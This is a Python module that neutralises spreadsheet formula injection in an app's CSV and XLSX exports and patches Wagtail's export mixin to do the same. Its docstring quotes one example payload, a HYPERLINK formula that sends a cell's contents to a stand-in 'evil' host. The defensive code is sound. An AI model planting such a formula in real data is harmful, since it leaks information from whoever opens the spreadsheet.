"""Spreadsheet cells that stay text: the one guard against formula injection in every export.

A participant types their name, organisation or motivation; an export puts it in a CSV or XLSX file
that the secretariat opens in Excel or LibreOffice. A value such as ``=HYPERLINK("http://evil/?"&A2,
"click")`` would run there as a formula (OWASP "CSV injection"). So:

- CSV: a text value that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
  leading ``'`` (``neutralise``), which spreadsheet programs show as text and do not evaluate. Numbers
  are left alone: a negative figure stays a number.
- XLSX: a text value is written as a text cell (``text_cell``), never as a formula; openpyxl would
  otherwise take any string starting with ``=`` for one. The text itself is kept as typed.

Every export goes through here: the statistics exports (``reports/export.py``, the admin's report
views), and every Wagtail spreadsheet export (our viewsets' ``list_export``, and Wagtail's own
reports such as site history, whose labels name people) through ``protect_wagtail_exports()``, which
the app calls once at start-up. Wagtail already writes XLSX formulas back as text; its CSV it does not.
"""

import functools

from openpyxl.cell import WriteOnlyCell
from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The value as a CSV cell that no spreadsheet evaluates: text starting with a formula sign gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def text_cell(sheet, value):
    """A cell for a write-only openpyxl ``sheet``: text as text (never a formula), anything else as is."""
    cell = WriteOnlyCell(sheet, value)
    if isinstance(value, str) and cell.data_type == "f":
        cell.data_type = "s"
    return cell


def text_row(sheet, values):
    """A row for ``sheet.append()`` whose text cells are all text."""
    return [text_cell(sheet, value) for value in values]


def protect_wagtail_exports():
    """Neutralise every CSV value of Wagtail's ``SpreadsheetExportMixin``, for all its subclasses.

    Patched on the mixin rather than on our views, because Wagtail's own reports (site history,
    page listings) export with it too and offer no hook of their own; XLSX it already writes as text.
    """
    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises", False):
        return

    @functools.wraps(original)
    def preprocess_field_value(self, field, value, export_format):
        processed = original(self, field, value, export_format)
        return neutralise(processed) if export_format == self.FORMAT_CSV else processed

    original_heading = SpreadsheetExportMixin.get_heading

    @functools.wraps(original_heading)
    def get_heading(self, queryset, field):
        return neutralise(original_heading(self, queryset, field))  # Session titles head columns.

    preprocess_field_value.neutralises = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.get_heading = get_heading
